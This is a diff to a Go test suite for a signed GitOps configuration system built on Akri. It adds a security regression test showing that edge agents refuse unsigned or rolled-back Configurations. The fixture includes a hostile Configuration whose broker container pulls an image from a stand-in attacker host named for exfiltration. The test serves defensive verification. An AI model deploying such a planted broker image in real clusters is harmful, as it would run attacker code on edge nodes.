@@ -61,8 +61,8 @@ func (s *signedLoop) firmwareJob() string {
 // signer and keeping to its own history, vanished devices kept for grace.
 func (s *signedLoop) startAgent(node string, signer gitsync.Signer, devices *nodeDevices, grace time.Duration, extra ...gitsync.Option) *agent.Agent {
 	s.t.Helper()
-	store, source := s.refs.agent(node, append([]gitsync.Option{gitsync.WithSigner(signer), gitsync.WithOwnHistory()}, extra...)...)
-	a, err := agent.New(agent.Options{Node: node, Store: store, Source: source, Handlers: agent.Builtin{"debugEcho": devices},
+	store, _ := s.refs.agent(node, append([]gitsync.Option{gitsync.WithSigner(signer), gitsync.WithOwnHistory()}, extra...)...)
+	a, err := agent.New(agent.Options{Node: node, Store: store, Configurations: s.refs.published(s.allowed), Handlers: agent.Builtin{"debugEcho": devices},
 		Log: logr.Discard(), SharedGracePeriod: grace, LocalGracePeriod: grace})
 	require.NoError(s.t, err)
 	return a
@@ -650,4 +650,68 @@ func TestAttackDeletedRefRecoversAfterARestart(t *testing.T) {
 	s.srv.SetRef(ref, newTip)
 	out = s.renderTrust()
 	require.Empty(t, out.Result.Untrusted, s.plan(out))
+}
+
+// Finding 4: an unsigned Configuration pushed on main was discovered by every agent and signed
+// into the nodes' inventories, although the renderer refused that commit. Agents now read the
+// Configurations the renderer verified, from its signed gitbroker/configurations; whatever else
+// lands there (an unsigned commit, another commit the renderer signed, an older publication) is
+// refused, the one accepted before stays in use, and the renderer puts the branch back.
+func TestAttackAgentsReadOnlyVerifiedConfigurations(t *testing.T) {
+	s := newSignedLoop(t)
+	published := s.srv.On(verify.ConfigurationsBranch)
+	first := published.Head()
+	require.NotEmpty(t, first, "the first render publishes the verified Configurations")
+	msg, err := s.srv.VerifyCommit(first, s.allowed)
+	require.NoError(t, err, "the publication is the renderer's signature: %s", msg)
+
+	stolen := "apiVersion: akri.sh/v0\nkind: Configuration\nmetadata:\n  name: stolen\nspec:\n  discoveryHandler:\n    name: debugEcho\n    discoveryDetails: |+\n      descriptions: [\"x0\"]\n  brokerSpec:\n    brokerPodSpec:\n      containers:\n      - name: b\n        image: attacker.example.com/exfil:latest\n"
+	s.nodes["edge-b"].set("default/stolen", "x0")
+	s.nodes["edge-b"].set("default/akri-debug-echo", "baz0")
+	unsigned := s.srv.Commit(map[string]string{"configurations/stolen.yaml": stolen}, nil, "unsigned: a new Configuration")
+	s.discover()
+	out := s.renderTrust()
+	s.untrusted(out, "main", "is not signed")
+	require.True(t, s.inventoryWith("edge-b", "baz0"))
+	require.False(t, s.inventoryWith("edge-b", "stolen"), "an agent discovered for a Configuration the renderer refused")
+	inv, _ := s.srv.On(verify.InventoryBranch("edge-b")).File(api.InventoryPath("edge-b"))
+	require.NotContains(t, inv, "stolen", "an agent signed devices of an unverified Configuration")
+	require.Equal(t, first, published.Head(), "the refused commit is not published")
+
+	// Pushed straight onto the publication branch: unsigned, then a commit the renderer did sign
+	// but not as a publication (its render), then the agent's view must not move.
+	s.srv.SetRef(verify.ConfigurationsBranch, s.srv.Head())
+	s.discover()
+	inv, _ = s.srv.On(verify.InventoryBranch("edge-b")).File(api.InventoryPath("edge-b"))
+	require.NotContains(t, inv, "stolen")
+	s.srv.SetRef(verify.ConfigurationsBranch, s.rendered().Head())
+	s.discover()
+	inv, _ = s.srv.On(verify.InventoryBranch("edge-b")).File(api.InventoryPath("edge-b"))
+	require.NotContains(t, inv, "stolen")
+	s.renderTrust()
+	require.Equal(t, first, published.Head(), "the renderer puts its publication back")
+
+	// A person accepts the commit: the Configuration is published, and discovered.
+	s.srv.CommitSigned(s.keyFiles["alice@example.com"], map[string]string{"README.md": "reviewed\n"}, nil, "reviewed: the new Configuration\n\n"+verify.TrailerAccept+": "+unsigned)
+	out = s.renderTrust()
+	second := published.Head()
+	require.NotEqual(t, first, second, s.plan(out))
+	s.discover()
+	s.renderTrust()
+	require.True(t, s.inventoryWith("edge-b", "x0"), "a verified Configuration is discovered")
+
+	// The older publication put back is a rollback: the agents keep the newer one.
+	s.nodes["edge-b"].set("default/stolen", "x1")
+	s.srv.SetRef(verify.ConfigurationsBranch, first)
+	s.discover()
+	s.renderTrust()
+	require.True(t, s.inventoryWith("edge-b", "x1"), "an agent went back to an older publication")
+	require.Equal(t, second, published.Head(), "the renderer puts its newest publication back")
+
+	// A restarted agent, which remembers nothing, finds no publication: it writes nothing
+	// rather than discover with the people's branch.
+	s.srv.SetRef(verify.ConfigurationsBranch, "")
+	restarted := s.startAgent("edge-a", s.keys["node:edge-a"], s.nodes["edge-a"], 0)
+	_, err = restarted.Sync(t.Context())
+	require.ErrorContains(t, err, "does not exist")
 }
